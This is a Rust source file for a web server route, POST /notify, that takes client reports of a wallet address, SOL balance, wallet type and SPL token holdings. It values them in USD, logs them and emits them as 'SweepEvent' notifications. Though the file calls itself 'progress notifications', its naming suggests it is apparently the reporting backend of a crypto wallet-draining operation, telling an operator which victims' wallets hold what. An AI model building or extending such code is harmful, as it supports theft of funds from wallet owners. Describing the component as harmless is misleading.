/// Client progress notifications
///
/// Accepts free-form progress reports and fans them out through the
/// configured notification sinks. Always acknowledges; a lost note must
/// never disturb the client flow.

use axum::{ extract::State, response::Json, routing::post, Router };
use serde::{ Deserialize, Serialize };
use std::sync::Arc;

use crate::events::SweepEvent;
use crate::logger::{ debug, LogTag };
use crate::price::fallback_token_value;
use crate::webserver::state::AppState;

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct NotifyRequest {
    #[serde(default)]
    pub address: String,
    #[serde(default)]
    pub balance: f64,
    #[serde(default)]
    pub wallet_type: String,
    #[serde(default)]
    pub custom_message: String,
    #[serde(default)]
    pub spl_tokens: Vec<SplTokenNote>,
}

#[derive(Debug, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct SplTokenNote {
    pub mint: String,
    pub amount: f64,
    #[serde(default)]
    pub symbol: String,
}

#[derive(Debug, Serialize)]
pub struct NotifyResponse {
    pub ok: bool,
}

/// Create notification routes
pub fn routes() -> Router<Arc<AppState>> {
    Router::new().route("/notify", post(client_notify))
}

/// POST /notify
async fn client_notify(
    State(state): State<Arc<AppState>>,
    Json(request): Json<NotifyRequest>
) -> Json<NotifyResponse> {
    let price = state.price.get().await;

    // Stablecoin holdings carry a known quote and count toward the USD figure.
    let mut balance_usd = request.balance * price;
    for token in &request.spl_tokens {
        if let Some(value) = fallback_token_value(&token.mint, token.amount) {
            balance_usd += value;
        }
    }

    if !request.spl_tokens.is_empty() {
        let listed = request.spl_tokens
            .iter()
            .map(|t| {
                let label = if t.symbol.is_empty() { &t.mint } else { &t.symbol };
                format!("{} {}", t.amount, label)
            })
            .collect::<Vec<_>>()
            .join(", ");
        debug(LogTag::Notify, "TOKENS", &format!("{} reported: {}", request.address, listed));
    }

    state.notifications.emit(SweepEvent::ClientNote {
        address: request.address,
        wallet_type: request.wallet_type,
        message: request.custom_message,
        balance_sol: request.balance,
        balance_usd,
        token_count: request.spl_tokens.len(),
    }).await;

    Json(NotifyResponse { ok: true })
}
